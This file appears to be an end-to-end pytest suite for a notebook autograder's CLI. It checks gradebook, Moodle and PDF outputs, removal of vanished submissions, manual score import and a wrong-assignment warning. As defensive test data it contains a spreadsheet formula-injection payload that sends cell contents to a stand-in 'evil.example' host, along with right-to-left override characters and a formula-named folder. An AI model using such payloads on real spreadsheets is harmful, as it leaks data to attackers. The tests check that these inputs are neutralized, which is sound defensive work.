"""End to end: the gradebook a teaching assistant can trust, through `grader run` and `manual import`.

A class with a roster (hostile cells: a formula name, direction marks), a student who handed in
nothing, a hand-in under an id the roster lacks (its folder name a formula behind an RLO), a pending
essay; then a student's submission vanishes; then a manual score arrives; then the class is graded by
the wrong assignment.
"""
import csv
import json
import shutil
import subprocess
import sys
from pathlib import Path

import nbformat
import openpyxl
import pytest
from pypdf import PdfReader

from tests.manual.test_manual import ESSAY, essay_notebook
from tests.support.hostile import corpus
from tests.support.paths import ROOT
from tests.support.runs import grader_env

pytestmark = [pytest.mark.sandbox, pytest.mark.slow, pytest.mark.e2e]

RLO, RLM = "\u202e", "\u200f"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
QUOTED = FORMULA.replace('"', '""')
ROSTER = ("id,name_fa,name_en,email\n"
          "ana,آنا,Ana,ana@example.edu\n"
          "ben,بن,Ben,ben@example.edu\n"
          f'dora,{RLM}دُرا{RLO},"{QUOTED}",dora@example.edu\n')


def grader(paths, *args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "grader.apps.cli", *args], cwd=ROOT, env=grader_env(paths),
                          capture_output=True, text=True, timeout=600)


def rows(path: Path) -> dict[str, dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as f:
        return {r[next(iter(r))]: r for r in csv.DictReader(f)}


def summary_text(out: Path) -> str:
    return " ".join(page.extract_text() for page in PdfReader(out / "summary.pdf").pages)


@pytest.fixture
def course(tmp_path):
    paths = corpus.build(tmp_path, 9)
    (paths["rubrics"] / "hostile.yaml").write_text(corpus.RUBRIC + ESSAY)
    wrong = corpus.RUBRIC.replace("assignment: hostile", "assignment: wrong")
    (paths["rubrics"] / "wrong.yaml").write_text(wrong.replace("name: answer", "name: other_answer")
                                                 .replace("name: double", "name: other_double"))
    subs = tmp_path / "class"
    for folder, essay in {"ana": "پاسخ آنا", "ben": None, f"{RLO}=intruder": "An answer"}.items():
        (subs / folder).mkdir(parents=True)
        nbformat.write(essay_notebook(essay), subs / folder / "hw.ipynb")
    (subs / "students.csv").write_text(ROSTER, encoding="utf-8")
    return paths, subs, tmp_path / "out"


def test_every_student_is_told_and_vanished_outputs_go(course, tmp_path):
    paths, subs, out = course
    run = grader(paths, "run", str(subs), "--assignment", "hostile", "--out", str(out), "--moodle-identity", "email")
    assert run.returncode == 0, run.stderr[-3000:]
    assert "grader: 1 student(s) of the roster handed in nothing and get 0 points (status 'no submission'): dora" \
        in run.stderr
    assert "marked 'not on roster' and left out of moodle.csv: =intruder" in run.stderr
    assert RLO not in run.stderr

    grades = rows(out / "grades.csv")
    assert list(grades) == ["'=intruder", "ana", "ben", "dora"]
    assert grades["'=intruder"]["status"] == "not on roster" and grades["'=intruder"]["q1"] == "2"
    assert (grades["ana"]["q3"], grades["ana"]["manual_pending"], grades["ana"]["status"]) == ("pending", "3", "pending")
    assert (grades["ben"]["q3"], grades["ben"]["total"], grades["ben"]["status"]) == ("0", "4", "graded")  # no essay: 0
    assert grades["dora"] == {"id": "dora", "name": "'" + FORMULA, "q1": "0", "q2": "0", "q3": "0", "total": "0",
                              "max_total": "7", "manual_pending": "0", "status": "no submission"}
    ws = openpyxl.load_workbook(out / "grades.xlsx")["grades"]
    sheet = {r[0]: r for r in ws.iter_rows(values_only=True)}
    assert sheet["dora"][1:3] == ("دُرا", FORMULA) and sheet["=intruder"][-1] == "not on roster"
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)

    moodle = rows(out / "moodle.csv")
    assert list(moodle) == ["ana@example.edu", "ben@example.edu", "dora@example.edu"]
    assert [moodle[k]["hostile total"] for k in moodle] == ["-", "4", "0"]  # ana's essay is pending: no grade
    assert moodle["ana@example.edu"]["hostile feedback"].endswith("q3: pending (3 points)")
    assert "handed in nothing" in summary_text(out) and "not on roster" in summary_text(out)

    # ben's submission vanishes: his report and result go, nothing else of OUT does
    foreign = [out / "notes.txt", out / "zed.pdf", out / "results" / "notes.json", out / "manual" / "keep.csv"]
    for path in foreign:
        path.parent.mkdir(exist_ok=True)
        path.write_text("the teaching assistant's own file")
    assert (out / "ben.pdf").is_file()
    shutil.rmtree(subs / "ben")
    again = grader(paths, "run", str(subs), "--assignment", "hostile", "--out", str(out), "--moodle-identity", "email")
    assert again.returncode == 0, again.stderr[-3000:]
    assert "their report and result were removed: ben" in again.stderr
    assert not (out / "ben.pdf").exists() and not (out / "results" / "ben.json").exists()
    assert all(p.read_text() == "the teaching assistant's own file" for p in foreign)
    assert (out / "ana.pdf").is_file() and rows(out / "grades.csv")["ben"]["status"] == "no submission"

    # ana's essay is graded: the roster the run recorded still lists everyone, and Moodle gets her grade
    assert grader(paths, "manual", "export", str(out)).returncode == 0
    with (out / "manual" / "manual.csv").open(encoding="utf-8-sig", newline="") as f:
        sheet_rows = [r for r in csv.DictReader(f) if r["student_id"] == "ana"]
    sheet_rows[0]["score"] = "۲٫۵"
    filled = tmp_path / "filled.csv"
    with filled.open("w", encoding="utf-8", newline="") as f:
        writer = csv.DictWriter(f, list(sheet_rows[0]))
        writer.writeheader()
        writer.writerows(sheet_rows)
    done = grader(paths, "manual", "import", str(out), str(filled))
    assert done.returncode == 0, done.stderr
    grades = rows(out / "grades.csv")
    assert list(grades) == ["'=intruder", "ana", "ben", "dora"]
    assert (grades["ana"]["q3"], grades["ana"]["total"], grades["ana"]["status"]) == ("2.5", "6.5", "graded")
    assert rows(out / "moodle.csv")["ana@example.edu"]["hostile total"] == "6.5"
    assert json.loads((out / "class.json").read_text(encoding="utf-8"))["moodle_identity"] == "email"


def test_the_wrong_assignment_warns_and_exits_4(course):
    paths, subs, out = course
    run = grader(paths, "run", str(subs), "--assignment", "wrong", "--out", str(out))
    assert run.returncode == 4, run.stderr[-3000:]
    assert "100% of the hand-ins hold almost none of the automatic answers: wrong may be the wrong assignment" in run.stderr
    assert "may be the wrong assignment" in summary_text(out)
    assert {r["status"] for r in rows(out / "grades.csv").values()} == {"graded", "no submission", "not on roster"}
